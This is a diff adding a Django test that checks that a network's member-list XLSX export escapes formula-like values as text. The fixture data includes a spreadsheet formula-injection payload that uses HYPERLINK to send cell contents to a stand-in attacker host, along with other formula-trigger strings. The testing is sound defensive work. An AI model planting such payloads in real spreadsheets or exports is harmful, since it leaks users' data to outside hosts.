@@ -123,3 +123,25 @@ def test_members_cannot_edit_memberships(client, member, erfurt_network):
     membership = Membership.objects.get(organisation__name="Caritas")
     client.force_login(member)
     assert client.get(reverse("networks:membership", args=["erfurt", membership.pk])).status_code == 404
+
+
+def test_member_list_xlsx_writes_formulas_as_text_cells(client, member, erfurt_network):
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"Click")'
+    caritas = Organisation.objects.get(name="Caritas")
+    caritas.name, caritas.city, caritas.website, caritas.email = formula, "+49 Erfurt", "@SUM(1)", "-x@example.org"
+    caritas.save()
+    Organisation.objects.filter(name="VHS").update(name="VHS\x0b Erfurt")  # a character XLSX cannot hold
+    client.force_login(member)
+    response = client.get(reverse("networks:members_xlsx", args=["erfurt"]))
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    row = next(r for r in sheet.iter_rows(min_row=2) if formula in r[0].value)
+    assert [cell.value for cell in (row[0], row[3], row[8], row[9])] == [
+        "'" + formula,
+        "'+49 Erfurt",
+        "'@SUM(1)",
+        "'-x@example.org",
+    ]
+    assert all(cell.data_type == "s" for cell in (row[0], row[3], row[8], row[9]))
+    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)
+    assert "VHS Erfurt" in [r[0].value for r in sheet.iter_rows()]
